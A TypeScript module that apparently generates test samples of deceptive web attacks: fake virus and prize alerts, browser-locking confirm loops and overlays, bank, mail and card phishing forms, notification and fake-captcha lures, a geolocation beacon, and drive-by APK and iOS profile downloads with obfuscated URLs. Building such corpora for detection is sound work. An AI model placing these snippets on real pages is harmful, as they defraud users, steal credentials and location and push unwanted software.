import { spelled } from './obfuscation.ts'
import { framedOnly, type Snippet, type SnippetInput, snippet } from './snippet.ts'

/** Attacks that deceive the reader. Their dialogs are drawn, so a picture of the markup shows them. */

const box = (title: string, body: string, inner: string) =>
  `<div style="position:absolute;top:8px;left:8px;width:264px;background:#fff;color:#111;border:2px solid #c62828;border-radius:6px;font:13px/1.4 Arial,sans-serif;padding:10px;z-index:9"><b style="color:#c62828">${title}</b><p style="margin:6px 0">${body}</p>${inner}</div>`
const button = (host: string, token: string, label: string) =>
  `<a href="https://${host}/a?s=${token}" target="_top" style="display:inline-block;background:#c62828;color:#fff;padding:7px 14px;border-radius:4px;text-decoration:none">${label}</a>`

export const fakeAlert = {
  'virus-warning': ({ host, token }: SnippetInput): Snippet =>
    snippet('(4) viruses were found! Your battery is damaged by 62%', (match) =>
      box('System warning', `${match} and your SIM card will be harmed soon.`, button(host, token, 'Repair now')),
    ),
  'alert-loop': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`(function again(){if(confirm(m))open(p,'_top');setTimeout(again,400)})()`, (match) =>
      framedOnly(
        `var m='Your device is locked. Press OK to call support.',p=${spelled(`https://${host}/call?s=${token}`, obfuscation)};if(!('ontouchstart' in window))return;${match};`,
      ),
    ),
  'prize-lure': ({ host, token }: SnippetInput): Snippet =>
    snippet('You are today’s 1,000,000th visitor', (match) =>
      box(
        'Congratulations!',
        `${match}. Your gift card of $1,000 is reserved for 04:59.`,
        button(host, token, 'Claim gift'),
      ),
    ),
  'fake-update': ({ host, token }: SnippetInput): Snippet =>
    snippet('Your video player is out of date', (match) =>
      box(
        'Update required',
        `${match}. Install version 26.4 to go on watching.`,
        button(host, token, 'Install update'),
      ),
    ),
  'page-overlay': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`o.style.cssText='position:fixed;inset:0;z-index:2147483647;background:#0b3d91;color:#fff'`, (match) =>
      framedOnly(
        `var o=top.document.createElement('div'),p=${spelled(`https://${host}/help?s=${token}`, obfuscation)};${match};o.textContent='Access to this PC is blocked. Call support.';o.onclick=function(){open(p)};top.document.body.appendChild(o);`,
      ),
    ),
}

const field = (type: string, hint: string) =>
  `<input type="${type}" placeholder="${hint}" style="display:block;width:90%;margin:4px 0;padding:5px;border:1px solid #999">`
const form = (input: SnippetInput, path: string, title: string, fields: string) =>
  snippet(`action="https://${input.host}/${path}?s=${input.token}"`, (match) =>
    box(
      title,
      'Please confirm that it is you.',
      `<form method="post" ${match}>${fields}<button type="button">Continue</button></form>`,
    ),
  )

export const phishingForm = {
  'bank-login': (input: SnippetInput) =>
    form(
      input,
      'secure/login',
      'Greenhouse Bank: session expired',
      field('text', 'Customer number') + field('password', 'PIN'),
    ),
  'mail-login': (input: SnippetInput) =>
    form(input, 'mail/verify', 'Your mailbox is full', field('email', 'E-mail') + field('password', 'Password')),
  'card-form': (input: SnippetInput) =>
    form(
      input,
      'parcel/fee',
      'Parcel held: pay 1.99',
      field('text', 'Card number') + field('text', 'Expiry') + field('text', 'CVC'),
    ),
}

export const pushPermissionLure = {
  'notification-prompt': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`Notification.requestPermission().then(function(p){if(p==='granted')reg(s)})`, (match) =>
      framedOnly(
        `var s=${spelled(`https://${host}/sw.js?s=${token}`, obfuscation)};function reg(u){navigator.serviceWorker&&navigator.serviceWorker.register(u)}document.addEventListener('click',function(){${match}},{once:true});`,
      ),
    ),
  'fake-captcha': ({ host, token }: SnippetInput): Snippet =>
    snippet('Click <b>Allow</b> to prove that you are not a robot', (match) =>
      box('One more step', `${match}.`, button(host, token, 'Allow')),
    ),
  'device-permission': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(
      `navigator.geolocation.getCurrentPosition(function(p){new Image().src=g+'&at='+p.coords.latitude})`,
      (match) => framedOnly(`var g=${spelled(`https://${host}/near?s=${token}`, obfuscation)};${match};`),
    ),
}

export const driveByDownload = {
  'blob-download': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(
      `a.href=URL.createObjectURL(new Blob([x],{type:'application/octet-stream'}));a.download=n;a.click()`,
      (match) =>
        framedOnly(
          `var x='demo text, no program',n='Player_Setup_${token}.bin',o=${spelled(`https://${host}/d`, obfuscation)},a=document.createElement('a');a.rel=o;${match};`,
        ),
    ),
  'installer-push': ({ host, token }: SnippetInput): Snippet =>
    snippet(
      `<iframe src="https://${host}/get/cleaner-${token}.apk" width="0" height="0" style="border:0"></iframe>`,
      (match) => `<div id="dl-${token}" style="height:0;overflow:hidden">${match}</div>`,
    ),
  'profile-install': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`location.assign(v+'.mobileconfig')`, (match) =>
      framedOnly(
        `if(!/iPhone|iPad/.test(navigator.userAgent))return;var v=${spelled(`https://${host}/p/${token}`, obfuscation)};${match};`,
      ),
    ),
}
